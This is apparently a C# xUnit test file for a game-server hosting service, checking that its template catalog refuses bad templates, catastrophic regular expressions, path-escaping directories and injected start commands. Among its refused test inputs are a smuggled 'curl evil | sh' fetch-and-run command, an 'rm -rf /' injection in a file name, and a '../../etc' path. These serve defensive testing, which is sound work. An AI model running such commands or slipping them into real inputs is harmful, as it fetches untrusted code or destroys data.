using System.Text.RegularExpressions;
using ZlhGrind.Grains.Authorization;
using ZlhGrind.Grains.Containers;
using ZlhGrind.Grains.GameServers;
using ZlhGrind.Grains.Templates;
using ZlhGrind.Silo.Tests.TestSupport;
using static ZlhGrind.Silo.Tests.TestSupport.Scenario;

namespace ZlhGrind.Silo.Tests.Grains.Templates;

public sealed class TemplateCatalogTests(FakeClockClusterFixture fixture) : IClassFixture<FakeClockClusterFixture>
{
    private IClusterClient Client => fixture.Client;

    private ITemplateCatalogGrain Catalog(string key) => Client.GetGrain<ITemplateCatalogGrain>(key);

    [Fact]
    public async Task Get_AtSiloStart_HoldsTheShippedTemplates()
    {
        CallAs.Gateway();
        var templates = await Catalog(ITemplateCatalogGrain.Key).GetAsync();

        Assert.Equal(["generic", "minecraft-fabric", "minecraft-forge", "minecraft-paper", "minecraft-vanilla"], templates.Select(t => t.Name));
        Assert.All(templates.Where(t => t.Name.StartsWith("minecraft-", StringComparison.Ordinal)), t => Assert.Equal(@"Done \([^)]*\)! For help", t.Readiness.ConsolePattern));
        Assert.True(templates.Single(t => t.Name == "generic").StartCommandEditable);
        Assert.All(templates, t => Assert.Empty(GameTemplateRules.Problems(t)));
    }

    [Fact]
    public async Task Put_ByAGateway_RefusedAndNothingChanged()
    {
        var key = "put-" + Guid.NewGuid();
        CallAs.Gateway();

        await Assert.ThrowsAsync<CallerRejectedException>(() => Catalog(key).PutAsync(Template("mine")));

        Assert.Empty(await Catalog(key).GetAsync());
    }

    [Fact]
    public async Task Put_InvalidTemplate_RefusedWithTheFieldAndNothingChanged()
    {
        var key = "bad-" + Guid.NewGuid();
        CallAs.Operator();
        await Catalog(key).PutAsync(Template("mine"));

        var unknown = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).PutAsync(Template("mine") with { StartCommand = ["java", "-jar", "{{jar}}"] }));
        var pattern = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).PutAsync(Template("mine") with { Readiness = new Readiness("Done (", false, TimeSpan.FromMinutes(1)) }));
        var escape = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).PutAsync(Template("mine") with { ModsDirectory = "../../etc" }));

        Assert.Equal("startCommand[2] uses '{{jar}}', which is neither built in nor a variable of the template.", unknown.Message);
        Assert.Equal("readiness.consolePattern is not a valid regular expression.", pattern.Message);
        Assert.Equal("modsDirectory must be a relative path inside the server directory (no '..', not absolute).", escape.Message);
        Assert.Equal([Template("mine").StartCommand], (await Catalog(key).GetAsync()).Select(t => t.StartCommand));
    }

    [Fact]
    public async Task Put_PatternsThatDefeatTheirChecks_RefusedWithTheFieldAndNothingChanged()
    {
        var key = "regex-" + Guid.NewGuid();
        CallAs.Operator();
        await Catalog(key).PutAsync(Template("mine"));

        // Valid alone, but its (?x) comment swallows the whole-value anchor: it used to escape as an ArgumentException (a 500).
        var comment = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).PutAsync(Template("mine") with
        {
            Variables = [new TemplateVariable("level", "The level name.", "world", VariableKind.Text, Pattern: "(?x)[a-z]+#")],
        }));

        // A backreference needs the backtracking matcher, whose time on a tenant's console line an operator's pattern decides.
        var backreference = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).PutAsync(Template("mine") with
        {
            CrashRules = [new TemplateCrashRule(@"(\w+) \1", CrashClassification.ModOrPluginError)],
        }));

        Assert.Equal("variables[0].pattern must be a valid regular expression for a text variable.", comment.Message);
        Assert.Equal("crashRules[0].pattern uses a construct the linear-time matcher lacks (backreferences, lookarounds, atomic groups, conditionals).", backreference.Message);
        var kept = Assert.Single(await Catalog(key).GetAsync());
        Assert.Equal((0, 0), (kept.Variables.Count, kept.CrashRules.Count));
    }

    [Fact]
    public void Compile_CatastrophicPattern_TheLinearEngineUnderTheConfiguredTimeout()
    {
        // (a+)+b backtracks exponentially; the non-backtracking engine answers in time linear in the input. Asserted by the
        // engine chosen, not by timing a long match: a wall-clock match timeout fires on a loaded machine too.
        var pattern = GameTemplateRules.Compile("(a+)+b");

        Assert.Equal(RegexOptions.CultureInvariant | RegexOptions.NonBacktracking, pattern.Options);
        Assert.Equal(GameTemplateRules.MatchTimeout, pattern.MatchTimeout);
        Assert.DoesNotMatch(pattern, "aaaa");
        Assert.Matches(pattern, "aaaab");
    }

    [Fact]
    public void ValueProblem_CatastrophicValueForABacktrackingPattern_RefusedWithTheExactMessage()
    {
        // A backreference needs the backtracking engine (a pattern stored before templates were held to the linear one):
        // 255 a's and a '!' give (a+)+\1 about 2^255 ways to fail, far past the match timeout on any machine. Whether the
        // engine gives up or times out, the value is refused in the same words, and the check never hangs.
        const string Backtracking = @"(a+)+\1";
        var variable = new TemplateVariable("level", "The level name.", "aa", VariableKind.Text, Pattern: Backtracking);

        Assert.Equal(RegexOptions.CultureInvariant, GameTemplateRules.Compile(Backtracking).Options);
        Assert.Equal(GameTemplateRules.MatchTimeout, GameTemplateRules.Compile(Backtracking).MatchTimeout);
        Assert.Equal(@"must match (a+)+\1.", GameTemplateRules.ValueProblem(variable, new string('a', GameTemplateRules.MaxText - 1) + "!"));
        Assert.Null(GameTemplateRules.ValueProblem(variable, "aaaa"));
    }

    [Fact]
    public async Task PutThenRemove_ByAnOperator_UpdatesAndRemoves()
    {
        var key = "edit-" + Guid.NewGuid();
        CallAs.Operator();
        await Catalog(key).PutAsync(Template("mine"));

        var updated = await Catalog(key).PutAsync(Template("mine") with { Version = "2" });
        Assert.Equal("2", Assert.Single(updated).Version);
        Assert.Empty(await Catalog(key).RemoveAsync("mine"));
        var gone = await Assert.ThrowsAsync<InvalidRequestException>(() => Catalog(key).RemoveAsync("mine"));
        Assert.Equal("template 'mine' is not in the catalog. Known: .", gone.Message);
    }

    [Fact]
    public async Task Provision_MinecraftPaper_RendersArgvFromVariablesAndTheAgentGetsTheLaunch()
    {
        var id = Ids.Next();
        var grain = Client.GetGrain<IGameServerGrain>(id);
        CallAs.Gateway();

        var result = await grain.ProvisionAsync(Alice, new GameServerSpec("minecraft-paper", "", null, 3072, new Dictionary<string, string> { ["port"] = "25570", ["jarFile"] = "paper-1.21.jar" }));
        CallAs.Agent(id, result.AgentCredential);
        var spec = (await grain.GetDesiredSpecAsync()).Game!.Spec;
        Assert.Equal("java -Xms3072M -Xmx3072M -jar paper-1.21.jar --port 25570 nogui", spec.StartCommand);
        Assert.Equal("stop", spec.StopCommand);
        Assert.Equal(["java", "-Xms3072M", "-Xmx3072M", "-jar", "paper-1.21.jar", "--port", "25570", "nogui"], spec.Launch!.Argv);
        Assert.Equal((25570, @"Done \([^)]*\)! For help", TimeSpan.FromMinutes(5), "plugins"), (spec.Launch.Port, spec.Launch.ReadyPattern, spec.Launch.StartTimeout, spec.Launch.ModsDirectory));
        Assert.Equal(new StopMethod("stop", 15, TimeSpan.FromSeconds(30)), spec.Launch.Stop);
    }

    [Theory]
    [InlineData("minecraft-nope", "", null, null, "template 'minecraft-nope' is not in the catalog. Known: generic, minecraft-fabric, minecraft-forge, minecraft-paper, minecraft-vanilla.")]
    [InlineData("minecraft-paper", "java -jar x.jar; curl evil | sh", null, null, "startCommand is refused: template minecraft-paper renders its own start command; only an editable template (such as generic) takes one.")]
    [InlineData("minecraft-paper", "", "jarFile", "x.jar; rm -rf /", "variables.jarFile must match [A-Za-z0-9][A-Za-z0-9._-]{0,63}\\.jar.")]
    [InlineData("minecraft-paper", "", "port", "22", "variables.port must be a whole number between 1024 and 65535.")]
    [InlineData("minecraft-paper", "", "jvmFlags", "-Xmx99G", "variables.jvmFlags is not a variable of template minecraft-paper; it takes: port, jarFile.")]
    [InlineData("generic", "", null, null, "startCommand is required with template generic.")]
    public async Task Provision_BadTemplateOrVariable_RefusedNamingTheFieldAndNothingCreated(string template, string start, string? name, string? value, string message)
    {
        var grain = Client.GetGrain<IGameServerGrain>(Ids.Next());
        CallAs.Gateway();
        var variables = name is null ? null : new Dictionary<string, string> { [name] = value! };

        var error = await Assert.ThrowsAsync<InvalidRequestException>(() => grain.ProvisionAsync(Alice, new GameServerSpec(template, start, null, 2048, variables)));

        Assert.Equal(message, error.Message);
        await Assert.ThrowsAsync<ContainerNotFoundException>(() => grain.GetStatusAsync(Alice));
    }

    private static GameTemplate Template(string name) => new(
        name, "1", "A test template.", ["./server", "--port", "{{port}}", "--dir", "{{serverDir}}"], false, 27015, [],
        new StopMethod("quit", 15, TimeSpan.FromSeconds(10)), new Readiness(null, true, TimeSpan.FromMinutes(1)), [], "mods", ["secrets.cfg"], null);
}
